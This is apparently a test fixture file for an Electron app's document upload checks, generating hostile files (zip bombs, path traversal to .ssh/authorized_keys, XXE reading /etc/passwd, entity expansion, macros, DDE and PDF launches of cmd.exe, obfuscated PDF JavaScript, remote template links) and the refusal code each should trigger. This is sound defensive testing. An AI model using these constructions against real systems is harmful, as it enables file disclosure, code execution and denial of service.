import { closeSync, ftruncateSync, openSync, writeSync } from 'node:fs';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { buildZip, type Part } from '../electron/platform/archive/build-zip.ts';
import { docx } from '../electron/platform/office/build-docx.ts';
import { xlsx } from '../electron/platform/office/build-xlsx.ts';
import { annexForm } from '../electron/services/intake/build-form.ts';
import { pngOf } from '../electron/services/intake/sample-files.ts';

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MEGABYTE = 1024 * 1024;

const bodyOf = (content: string) => `<w:document ${W}><w:body>${content}</w:body></w:document>`;
const wordOf = (xml: string, more: readonly Part[] = []) =>
  buildZip([{ name: 'word/document.xml', content: xml }, ...more]);

/** A part that unpacks to `megabytes` of a pattern, without ever holding them. */
function hugePart(name: string, pattern: string, megabytes: number): Part {
  const piece = Buffer.alloc(MEGABYTE, pattern);
  // Each piece ends with a full flush in the stream, so that pieces can be strung together.
  const packed = deflateRawSync(piece, { finishFlush: 3 });
  const end = deflateRawSync(Buffer.alloc(0));
  let crc = 0;
  for (let count = 0; count < megabytes; count += 1) crc = crc32(piece, crc);
  const content = Buffer.concat([...new Array<Buffer>(megabytes).fill(packed), end]);
  return { name, content, method: 0, both: { method: 8, size: megabytes * MEGABYTE, crc } };
}

function relationsOf(type: string, target: string): Part {
  const relation = `<Relationship Id="rId9" Type="${R}/${type}" Target="${target}" TargetMode="External"/>`;
  return { name: 'word/_rels/settings.xml.rels', content: `<Relationships>${relation}</Relationships>` };
}

const field = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${code}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

function pdf(...objects: (string | Buffer)[]): Buffer {
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((each) => Buffer.from(each)),
    Buffer.from('\n%%EOF\n'),
  ]);
}

function objectStream(content: string): Buffer {
  const packed = deflateSync(content);
  const head = `5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`;
  return Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream\nendobj\n')]);
}

const OPEN = '1 0 obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>\nendobj\n';

/** A JPEG of a size, its frame header behind so many bytes of other segments. */
function jpeg(width: number, height: number, before: number): Buffer {
  const other = Buffer.alloc(65_537, 0);
  other.writeUInt32BE(0xffe1ffff, 0);
  const frame = Buffer.from('ffc0001108000000000301220002110103110100', 'hex');
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return Buffer.concat([Buffer.from('ffd8', 'hex'), ...new Array<Buffer>(before).fill(other), frame]);
}

function tiff(width: number, height: number): Buffer {
  const bytes = Buffer.alloc(8 + 2 + 24 + 4);
  bytes.write('49492a0008000000', 0, 'hex');
  bytes.writeUInt16LE(2, 8);
  for (const [index, [tag, value]] of [[256, width] as const, [257, height] as const].entries()) {
    bytes.writeUInt16LE(tag, 10 + 12 * index);
    bytes.writeUInt16LE(4, 12 + 12 * index);
    bytes.writeUInt32LE(1, 14 + 12 * index);
    bytes.writeUInt32LE(value, 18 + 12 * index);
  }
  return bytes;
}

function compound(...streams: string[]): Buffer {
  const bytes = Buffer.alloc(512 * 4);
  bytes.write('d0cf11e0a1b11ae1', 'hex');
  for (const [index, stream] of streams.entries()) bytes.write(`${stream}\0`, 512 + 128 * index, 'utf16le');
  return bytes;
}

const ddeTable = xlsx(
  [
    {
      rows: [
        ['姓名', '县市'],
        ['李彩云', '姚安县'],
      ],
    },
  ],
  [
    {
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
    },
  ],
);
const bomb = buildZip([hugePart('0.xml', '<a/>', 100)]);

/** Every kind of hostile file: name → bytes, and the code with which it is refused. */
export const HOSTILE: Readonly<Record<string, readonly [bytes: () => Uint8Array, code: string]>> = {
  '炸弹.docx': [() => buildZip([hugePart('word/document.xml', ' ', 60)]), 'archive-hostile'],
  '500MB的XML.docx': [() => buildZip([hugePart('word/document.xml', '<w:p/>', 500)]), 'file-too-large'],
  '60MB的XML.docx': [() => wordOf(bodyOf(`<w:p><w:r><w:t>${noise(20 * MEGABYTE)}</w:t></w:r></w:p>`)), 'xml-hostile'],
  '套着炸弹的压缩包.zip': [
    () =>
      buildZip([
        { name: 'a.zip', content: bomb },
        { name: 'b.zip', content: bomb },
      ]),
    'type-unsupported',
  ],
  '一万个条目.docx': [
    () =>
      wordOf(
        bodyOf(''),
        Array.from({ length: 10_000 }, (_, index): Part => ({ name: `word/media/${index}.xml` })),
      ),
    'file-too-large',
  ],
  '穿越目录.docx': [
    () => docx(annexForm(), {}, [{ name: '../../../.ssh/authorized_keys', content: 'x' }]),
    'archive-hostile',
  ],
  '外部实体.docx': [
    () =>
      wordOf(`<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>${bodyOf('<w:p><w:r><w:t>&x;</w:t></w:r></w:p>')}`),
    'xml-hostile',
  ],
  '实体套实体.docx': [
    () =>
      wordOf(
        `<!DOCTYPE w [<!ENTITY a "${'哈'.repeat(1_000)}"><!ENTITY b "${'&a;'.repeat(1_000)}">]>${bodyOf('<w:p><w:r><w:t>&b;</w:t></w:r></w:p>')}`,
      ),
    'xml-hostile',
  ],
  '宏.docx': [() => docx(annexForm(), {}, [{ name: 'word/vbaProject.bin', content: 'x' }]), 'macro-refused'],
  '旧宏.doc': [() => compound('Root Entry', 'WordDocument', '_VBA_PROJECT'), 'macro-refused'],
  '其实是程序包.docx': [
    () => buildZip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: X' }, { name: 'X.class' }]),
    'type-unsupported',
  ],
  '其实是电子书.docx': [
    () => buildZip([{ name: 'mimetype', content: 'application/epub+zip', method: 0 }]),
    'type-unsupported',
  ],
  '改名的程序.docx': [() => Buffer.from(`MZ\u0090${'\0'.repeat(300)}`, 'latin1'), 'type-unsupported'],
  '改名的程序.pdf': [() => Buffer.from(`MZ\u0090${'\0'.repeat(300)}`, 'latin1'), 'type-unsupported'],
  '改名的程序.jpg': [() => Buffer.from('\u007fELF\u0002\u0001'.padEnd(300, '\0'), 'latin1'), 'type-unsupported'],
  '有密码.docx': [() => compound('EncryptedPackage', 'EncryptionInfo'), 'file-unreadable'],
  '网络模板.docx': [
    () => docx(annexForm(), {}, [relationsOf('attachedTemplate', 'https://example.invalid/a.dotm')]),
    'active-refused',
  ],
  '网络对象.docx': [
    () => docx(annexForm(), {}, [relationsOf('oleObject', '\\\\198.51.100.1\\a\\b.doc')]),
    'active-refused',
  ],
  '动态数据交换.docx': [
    () =>
      docx(
        annexForm() +
          field(
            '<w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r>',
          ),
      ),
    'active-refused',
  ],
  '动态数据交换.xlsx': [() => ddeTable, 'active-refused'],
  '宏表.xlsx': [
    () => xlsx([{ rows: [['姓名']] }], [{ name: 'xl/macrosheets/sheet1.xml', content: 'x' }]),
    'macro-refused',
  ],
  '脚本.pdf': [() => pdf(OPEN), 'active-refused'],
  '改写的脚本.pdf': [() => pdf(OPEN.replace('/JavaScript', '/J#61va#53cript')), 'active-refused'],
  '压缩的脚本.pdf': [() => pdf(objectStream('6 0 <</S/JavaScript/JS(app.launchURL\\(1\\))>>')), 'active-refused'],
  '深处的脚本.pdf': [() => pdf(Buffer.alloc(3 * MEGABYTE, 'x'), OPEN), 'active-refused'],
  '启动程序.pdf': [() => pdf('1 0 obj\n<</OpenAction<</S /Launch/F(cmd.exe)>>>>\nendobj\n'), 'active-refused'],
  '五万乘五万.png': [() => pngOf(50_000, 50_000), 'file-too-large'],
  '六万乘六万.jpg': [() => jpeg(60_000, 60_000, 30), 'file-too-large'],
  '六万乘六万.gif': [() => Buffer.from('4749463839610f27ffffffff00', 'hex').fill(0xff, 6, 10), 'file-too-large'],
  '五万乘五万.tif': [() => tiff(50_000, 50_000), 'file-too-large'],
};

/** Text that hardly packs. */
function noise(length: number): string {
  let state = 1;
  const bytes = Buffer.alloc(length);
  for (let at = 0; at < length; at += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    bytes[at] = 97 + ((state >>> 16) % 26);
  }
  return bytes.toString('latin1');
}

/** A file of a size that takes no room on disk: a head, then nothing. */
export function sparseFile(path: string, head: string, size: number): void {
  const file = openSync(path, 'w');
  writeSync(file, head);
  ftruncateSync(file, size);
  closeSync(file);
}
